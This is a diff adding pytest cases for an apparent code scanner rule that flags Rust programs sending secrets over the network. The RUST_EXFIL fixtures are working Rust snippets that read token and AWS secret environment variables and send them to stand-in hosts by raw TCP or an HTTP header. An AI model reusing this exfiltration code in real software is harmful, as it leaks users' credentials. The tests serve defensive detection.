@@ -186,3 +186,35 @@ def test_download_saved_then_handed_to_a_fixed_program_is_not_code():
     text = ("const res = await fetch('https://api.github.com/repos/a/b/releases/latest');\nconst out = 'release.json';\n"
             "fs.writeFileSync(out, JSON.stringify(await res.json()));\nexecFileSync('git', ['add', out]);\n")
     assert top("fetch.js", text, "IG701") in (None, Severity.LOW, Severity.MEDIUM)
+
+
+RUST_EXFIL = [
+    # environment or a secret variable written into a raw TCP request, or put in an HTTP header
+    "use std::io::Write;\nuse std::net::TcpStream;\nfn tag() -> String {\n    std::env::vars().filter(|(k, _)| k.contains(\"TOKEN\")).map(|(k, v)| format!(\"{k}={v}\")).collect()\n}\n"
+    "fn main() {\n    if let Ok(mut s) = TcpStream::connect(\"stats.bench-x.example:80\") {\n"
+    "        let _ = write!(s, \"GET / HTTP/1.1\\r\\nUser-Agent: b/{}\\r\\n\\r\\n\", tag());\n    }\n}\n",
+    "use std::io::Write;\nfn main() {\n    let k = std::env::var(\"AWS_SECRET_ACCESS_KEY\").unwrap_or_default();\n"
+    "    let mut c = std::net::TcpStream::connect(\"203.0.113.9:443\").unwrap();\n    c.write_all(k.as_bytes()).unwrap();\n}\n",
+    "fn main() {\n    let all: Vec<(String, String)> = std::env::vars().collect();\n"
+    "    let _ = reqwest::blocking::Client::new().get(\"https://t.crates-x.example/p\").header(\"X-Ctx\", format!(\"{:?}\", all)).send();\n}\n",
+]
+RUST_CLEAN = [
+    "use std::io::Write;\nfn main() {\n    let home = std::env::var(\"HOME\").unwrap();\n    let mut f = std::fs::File::create(\"out.txt\").unwrap();\n"
+    "    writeln!(f, \"{}\", home).unwrap();\n}\n",
+    "fn main() {\n    let t = std::env::var(\"GITHUB_TOKEN\").unwrap();\n"
+    "    let _ = reqwest::blocking::Client::new().get(\"https://api.github.com/user\").bearer_auth(t).send();\n}\n",
+    "use std::io::Write;\nfn main() {\n    let mut s = std::net::TcpStream::connect(\"127.0.0.1:8080\").unwrap();\n"
+    "    s.write_all(b\"GET / HTTP/1.0\\r\\n\\r\\n\").unwrap();\n}\n",
+]
+
+
+@pytest.mark.parametrize("text", RUST_EXFIL)
+def test_rust_secrets_to_the_network(text):
+    sev = top("src/main.rs", text, "IG703")
+    assert sev is not None and sev >= Severity.HIGH
+
+
+@pytest.mark.parametrize("text", RUST_CLEAN)
+def test_rust_ordinary_programs_stay_quiet(text):
+    sev = top("src/main.rs", text, "IG703")
+    assert sev is None or sev < Severity.HIGH
